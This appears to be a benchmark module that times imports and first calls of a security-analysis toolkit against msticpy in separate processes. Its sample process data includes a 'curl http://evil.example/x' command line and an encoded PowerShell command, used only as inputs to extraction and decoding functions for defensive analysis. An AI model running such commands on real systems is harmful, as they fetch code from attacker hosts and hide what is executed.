"""What a user waits for: ``import``, and the first call of each tool, each in a process of its own, beside msticpy's.

A whole process is timed, with the start of Python: that is what opening a notebook or a script costs. msticpy, where it
is installed (``MSTICPY_PYTHON`` may name another Python that has it), makes the same call in the same round.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from typing import NamedTuple

from measure import Finding, Plan, race
from msticpy_child import msticpy_python

FRAME = """
import pandas as pd
times = pd.date_range('2024-05-01', periods=3, freq='h', tz='UTC')
same = dict(Computer='WEB1', EventID=4688, SubjectUserName='ana', SubjectDomainName='CORP', SubjectLogonId='0x1',
    SubjectUserSid='S-1', TenantId='t', Account='ana', TokenElevationType='', TargetLogonId='0x0', TimeCreatedUtc=times)
d = pd.DataFrame(dict(TimeGenerated=times, CommandLine=['whoami', 'curl http://evil.example/x', 'ping 192.0.2.7'],
    NewProcessId=['0x10', '0x20', '0x30'], ProcessId=['0x1', '0x10', '0x20'],
    NewProcessName=['a.exe', 'b.exe', 'c.exe'], ParentProcessName=['r.exe', 'a.exe', 'b.exe'], **same))
"""
"""Three started programs, each the parent of the next, with the columns that both know."""
ENCODED = "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="


class Call(NamedTuple):
    """The same call here and there.

    Attributes
    ----------
    what, ours, theirs : str
        The latter two are programs.
    """

    what: str
    ours: str
    theirs: str


CALLS = (
    Call("import", "import flowsleuth", "import msticpy"),
    Call(
        "indicators of a text",
        "from flowsleuth.toolkit import IoCExtract; assert IoCExtract().extract('ping 192.0.2.7')",
        "from msticpy.transform.iocextract import IoCExtract; assert IoCExtract().extract('ping 192.0.2.7')",
    ),
    Call(
        "decode a command",
        f"from flowsleuth.toolkit import unpack_items; unpack_items(input_string='{ENCODED}')",
        f"from msticpy.transform.base64unpack import unpack_items; unpack_items(input_string='{ENCODED}')",
    ),
    Call(
        "timeline of a frame",
        FRAME + "from flowsleuth.toolkit import display_timeline; display_timeline(d, source_columns=['CommandLine'])",
        FRAME + "from msticpy.vis.timeline import display_timeline;"
        " display_timeline(d, source_columns=['CommandLine'], hide=True)",
    ),
    Call(
        "process tree of a frame",
        FRAME + "from flowsleuth.toolkit import build_process_tree; build_process_tree(d)",
        FRAME + "from msticpy.transform.proc_tree_builder import build_process_tree; build_process_tree(d)",
    ),
    Call(
        "type of an address",
        "from flowsleuth.toolkit import get_ip_type; assert get_ip_type('192.168.1.1') == 'Private'",
        "from msticpy.context.ip_utils import get_ip_type; assert get_ip_type('192.168.1.1') == 'Private'",
    ),
    Call(
        "a query provider of local files",
        "from flowsleuth.toolkit import QueryProvider; QueryProvider('LocalData')",
        "from msticpy.data.core.data_providers import QueryProvider; QueryProvider('LocalData')",
    ),
    Call(
        "threat intelligence, set up",
        "from flowsleuth.toolkit import TILookup; TILookup(offline=True)",
        "from msticpy.context.tilookup import TILookup; TILookup()",
    ),
)


def measure(plan: Plan) -> Iterator[Finding]:
    """Wall seconds of whole processes, run in turn."""
    python = msticpy_python()
    for call in CALLS:
        rivals = {"ours": lambda call=call: [sys.executable, "-c", call.ours]}
        if python is not None:
            rivals["msticpy"] = lambda call=call: [python, "-c", call.theirs]
        found = race(rivals, plan.scratch, plan.rounds + 1)
        told = f"{found.wall('ours'):.2f} s, {found.peak('ours'):.0f} MB"
        if python is None:
            yield Finding(f"first call: {call.what}", "msticpy is not installed", told)
            continue
        ratio = found.wall_ratio("msticpy", "ours")
        peer = f"msticpy {found.wall('msticpy'):.2f} s, {found.peak('msticpy'):.0f} MB"
        yield Finding(f"first call: {call.what}", peer, told, ratio, "faster", ratio > 1)
